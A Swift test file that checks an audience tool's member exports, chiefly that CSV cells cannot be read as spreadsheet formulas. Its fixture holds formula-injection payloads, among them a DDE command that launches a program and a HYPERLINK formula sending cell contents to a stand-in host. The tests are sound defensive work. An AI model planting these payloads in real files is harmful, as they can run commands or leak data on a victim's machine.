import AudienceDiagnostics
import AudienceJSON
import AudiencePluginAPI
import AudienceSampleSupport
import AudienceSession
import Foundation
import Testing

/// Members can be taken away in every form, also where names and values are hostile.
@Suite struct MemberExportTests {
  /// A workspace whose values a spreadsheet would take as formulas, or break at.
  private func session() throws -> Session {
    let folder = FileManager.default.temporaryDirectory.appending(path: UUID().uuidString)
    try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
    defer { try? FileManager.default.removeItem(at: folder) }
    let schema = """
      {"name": "w", "events": [], "traits": [
        {"name": "a", "type": "string", "scope": "user"},
        {"name": "n", "type": "number", "scope": "user"}]}
      """
    try schema.write(
      to: folder.appending(path: "workspace.json"), atomically: true, encoding: .utf8)
    let values = [
      "=1+1", "+1 555", "-2", "@x", "\t=1", "\r=1", "a,b", "say \"hi\"", "two\nlines", "＝1",
      "＋1", "－1", "＠x", "\n=1", "\"=1\"", ",=1", "'=1", "=HYPERLINK(\"http://x.test?\"&A1,\"x\")",
      "=cmd|' /C calc'!A0", "-1+1",
    ]
    let calls = values.enumerated().map { index, value in
      JSONValue.object([
        "type": .text("identify"), "userId": .text(index == 0 ? "=id" : "u\(index)"),
        "timestamp": .text("2026-01-01"),
        "traits": .object(["a": .text(value), "n": .integer(index * 7 % 20)]),
      ]).compactText
    }
    try calls.joined(separator: "\n").write(
      to: folder.appending(path: "calls.jsonl"), atomically: true, encoding: .utf8)
    var session = try Samples.session(in: folder)
    _ = session.run("/query trait('a').exists()")
    return session
  }

  private func text(_ line: String) throws -> String {
    var session = try session()
    guard case .exported(let exported) = session.run(line) else {
      Issue.record("\(line) exports nothing")
      return ""
    }
    return exported.text
  }

  /// The cells of CSV text (RFC 4180).
  private func cells(_ text: String) -> [[String]] {
    var rows: [[String]] = [[]]
    var cell = ""
    var isQuoted = false
    var scalars = Array(text.unicodeScalars)[...]
    while let scalar = scalars.popFirst() {
      switch scalar {
      case "\"" where isQuoted && scalars.first == "\"":
        cell += "\""
        scalars.removeFirst()
      case "\"": isQuoted.toggle()
      case "," where !isQuoted:
        rows[rows.count - 1].append(cell)
        cell = ""
      case "\n" where !isQuoted:
        rows[rows.count - 1].append(cell)
        cell = ""
        rows.append([])
      default: cell.unicodeScalars.append(scalar)
      }
    }
    return rows.filter { !$0.isEmpty }
  }

  @Test(arguments: ["csv", "csv a n", "csv-unformatted", "csv-unformatted a"])
  func `no cell is taken as a formula, and every row has every column`(_ form: String) throws {
    let rows = cells(try text("/export \(form)"))
    #expect(rows.count == 21)
    #expect(Set(rows.map(\.count)).count == 1)
    for cell in rows.joined() {
      let first = cell.unicodeScalars.first
      #expect(
        !["=", "+", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"].contains(first)
          && (first != "-" || Double(cell) != nil), "\(cell)")
    }
  }

  @Test func `a cell that begins with a minus is plain only where it is a number`() {
    #expect(
      CSV.line(["-2", "-1.5e3", "-inf", "-nan", "-0x1", "+5", "-", "1-2"])
        == "-2,-1.5e3,'-inf,'-nan,'-0x1,'+5,'-,1-2")
  }

  @Test func `JSON lines keep ids and values as they are`() throws {
    let rows = try text("/export jsonl a").split(separator: "\n").map {
      try JSONReader.read(String($0))
    }
    #expect(rows.count == 20)
    #expect(rows.first?["id"] == .text("=id"))
    let values = rows.compactMap { $0["traits"]?["a"]?.stringValue }
    #expect(Set(values).isSuperset(of: ["=1+1", "\t=1", "two\nlines", "say \"hi\""]))
  }

  @Test func `ids come one a line, as many as were asked for`() throws {
    #expect(try text("/export ids 2") == "=id\nu1\n")
  }

  @Test(arguments: [("by n", 0...19), ("by n desc", 0...19)])
  func `members are sorted by a trait`(_ order: String, _ range: ClosedRange<Int>) throws {
    var session = try session()
    guard case .members(let reply) = session.run("/preview 20 n \(order)") else {
      Issue.record("no members")
      return
    }
    let numbers = reply.rows.compactMap { Int($0.cells[0]) }
    #expect(numbers == (order.hasSuffix("desc") ? range.reversed() : Array(range)))
  }

  @Test func `a file is written whole, and it is said how many`() throws {
    let path = FileManager.default.temporaryDirectory.appending(path: "\(UUID()).csv").path
    defer { try? FileManager.default.removeItem(atPath: path) }
    var session = try session()
    guard case .text(let lines) = session.run("/export csv \(path) a by n") else {
      Issue.record("nothing was written")
      return
    }
    #expect(
      lines.prefix(2) == [
        "wrote 20 of 20 profiles to \(path)",
        "columns: user_id, anonymous_id, email, phone, a; identifiers are always among them",
      ])
    #expect(cells(try String(contentsOfFile: path, encoding: .utf8)).count == 21)
  }
}
